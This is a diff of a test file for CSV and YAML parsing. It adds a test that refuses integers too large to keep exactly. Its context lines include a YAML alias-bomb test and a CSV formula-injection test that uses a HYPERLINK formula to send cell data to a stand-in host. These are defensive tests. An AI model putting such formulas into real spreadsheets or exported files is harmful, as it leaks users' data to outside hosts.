@@ -137,6 +137,17 @@ test('YAML errors name their position, and aliases cannot grow without end', () 
   expect(faultsOf(() => readYaml(bomb))).toHaveLength(1)
 })
 
+test('whole numbers that a number cannot keep are refused in CSV and YAML', () => {
+  const csv = 'name,type,behaviour,value\nn,NUMBER,COPIED,9007199254740993\nt,TEXT,COPIED,9007199254740993\n'
+  expect(faultsOf(() => readCsvFile(csv))).toEqual([
+    'line 2: the value 9007199254740993 is one that a number cannot keep exactly',
+  ])
+  expect(faultsOf(() => readYaml('a: [9007199254740993, "9007199254740993", 9007199254740992, 7]'))).toEqual([
+    'body: 9007199254740993 is a number that cannot be kept exactly; quote it to make it text',
+  ])
+  expect(readYaml('a: [9007199254740992, 7, 1.5]')).toEqual({ a: [9007199254740992, 7, 1.5] })
+})
+
 test('no text of a CSV file is a formula to a spreadsheet, and numbers stay numbers', () => {
   const common = { id: 'i', behaviour: 'COPIED', supportsDoubleResolution: false } as const
   const call = '=HYPERLINK("http://far.test/?"&A1)'
